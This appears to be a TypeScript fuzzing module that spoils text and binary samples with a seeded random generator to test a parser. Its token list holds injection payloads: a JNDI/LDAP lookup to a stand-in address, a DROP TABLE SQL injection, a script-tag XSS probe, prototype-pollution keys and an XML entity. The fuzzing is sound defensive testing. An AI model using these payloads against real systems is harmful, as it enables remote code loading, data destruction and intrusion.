// Spoils records: turns a sample into something that a broken shipper or an attacker might send. All
// chance comes from the given source, so that a seed repeats a run.

/** A number 0 … below. */
export type Chance = (below: number) => number;

/** Chance from a seed (mulberry32: 32 bits of state, period 2^32). */
export function chanceOf(seed: number): Chance {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

// What parsers trip over: delimiters, escapes, prototypes, control and direction characters, times at the
// ends of what counters hold, halves of surrogate pairs, numbers that overflow.
const TOKENS: readonly string[] = [
  ..."\"'\\[](){}<>|=,;:%#$&@/ \t\r\n\0\u001d\u2028\u202e\ufeff\ud800\udc00".split(""),
  "__proto__",
  "constructor",
  '"__proto__":{"polluted":1},',
  "\\u0000",
  "\\x00",
  "%00",
  "&#x0;",
  "<!DOCTYPE a [<!ENTITY b 'c'>]>&b;",
  "<![CDATA[",
  "1970-01-01T00:00:00Z",
  "2106-02-07T06:28:16Z",
  "9999999999999999999",
  "-1",
  "1e400",
  "NaN",
  "null",
  "\u0024{jndi:ldap://192.0.2.1/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "ä€𝕏",
  "::ffff:999.999.999.999",
  "'; DROP TABLE events; --",
];
// Whole values: names that every object has, and what numbers and flags may be instead.
const WORDS: readonly string[] = [
  "constructor",
  "toString",
  "__proto__",
  "hasOwnProperty",
  "valueOf",
  "null",
  "true",
  "0",
  "-",
  "",
];
const LONG_CHARACTERS_MAX = 200_000;

/** One spoiled version of a sample; another sample may lend pieces. */
export function spoil(sample: string, other: string, chance: Chance): string {
  let text = sample;
  for (let count = 1 + chance(4); count > 0; count--) text = spoilOnce(text, other, chance);
  return text;
}

function spoilOnce(text: string, other: string, chance: Chance): string {
  const at = chance(text.length + 1);
  const length = chance(2) === 0 ? chance(8) : chance(text.length + 1);
  const piece = text.slice(at, at + length);
  switch (chance(10)) {
    case 0:
      return text.slice(0, at);
    case 1:
      return text.slice(0, at) + text.slice(at + length);
    case 2:
      return text.slice(0, at) + piece + piece + text.slice(at + length);
    case 3:
      return text.slice(0, at) + token(chance) + text.slice(at);
    case 4:
      return text.slice(0, at) + token(chance) + text.slice(at + length);
    case 5: {
      const from = chance(other.length + 1);
      return text.slice(0, at) + other.slice(from, from + chance(80)) + text.slice(at);
    }
    case 6:
      return text.slice(0, at) + String.fromCharCode(chance(0x10000)) + text.slice(at + 1);
    case 7:
      return text.slice(at) + text.slice(0, at);
    case 8:
      return withWord(text, at, WORDS[chance(WORDS.length)] ?? "");
    default:
      return (
        text.slice(0, at) + repeated(piece === "" ? token(chance) : piece, chance) + text.slice(at)
      );
  }
}

// The word around an index replaced.
function withWord(text: string, at: number, word: string): string {
  const before = text.slice(0, at).replace(/\w{0,100}$/, "");
  return before + word + text.slice(at).replace(/^\w{0,100}/, "");
}

function token(chance: Chance): string {
  return TOKENS[chance(TOKENS.length)] ?? "";
}

// Mostly short; one in sixteen as long as makes anything quadratic show.
function repeated(piece: string, chance: Chance): string {
  const characters = chance(16) === 0 ? LONG_CHARACTERS_MAX : 2000;
  return piece.repeat(1 + chance(Math.max(1, Math.floor(characters / piece.length))));
}

// Tokens of binary formats, and numbers at the ends of what counters hold.
const BYTES = [0x00, 0x01, 0x02, 0x04, 0x0a, 0x0c, 0x0d, 0x21, 0x41, 0x7f, 0x80, 0x81, 0xff];
const NUMBERS = [0, 1, 512, 0xffff, 0x7fff_ffff, 0xffff_ffff];
const CHANGES_MAX = 30;

/** Spoils bytes between two places where they are. */
export function spoilBytes(bytes: Buffer, from: number, to: number, chance: Chance): void {
  for (let count = 1 + chance(CHANGES_MAX); count > 0; count--) {
    const at = from + chance(to - from);
    const kind = chance(4);
    if (kind === 0) bytes.writeUInt8(chance(256), at);
    else if (kind === 1) bytes.writeUInt8(BYTES[chance(BYTES.length)] ?? 0, at);
    else if (kind === 2 && at + 4 <= bytes.length) {
      bytes.writeUInt32LE(NUMBERS[chance(NUMBERS.length)] ?? 0, at);
    } else bytes.copyWithin(at, from + chance(to - from), to);
  }
}
